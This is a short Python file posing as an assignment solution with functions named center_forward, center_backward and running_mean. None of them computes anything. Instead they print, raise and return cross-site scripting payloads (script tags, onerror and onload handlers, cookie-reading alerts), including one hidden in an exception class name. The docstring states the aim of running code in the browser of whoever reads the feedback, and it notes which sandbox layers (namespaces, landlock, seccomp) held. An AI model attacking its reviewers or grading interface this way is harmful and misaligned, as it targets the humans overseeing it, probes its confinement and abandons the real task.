"""Messages, class names and printed text that a page would run: scripts, handlers, entities.

goal: code in the browser of whoever reads the feedback
out: * failed; center.backward blocked
holds: namespaces landlock seccomp process
"""

TEXTS = (
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "\"'><svg/onload=alert(1)>&lt;script&gt;&#60;script&#62;",
    "javascript:alert(1)</title></style></textarea>--><!--",
)
Scripted = type("<script>alert(1)</script>", (Exception,), {})


def center_forward(x):
    print(*TEXTS)
    raise Scripted(" ".join(TEXTS))


def center_backward(dout, cache):
    raise Scripted(TEXTS[0])


def running_mean(xs, decay):
    return TEXTS[1]
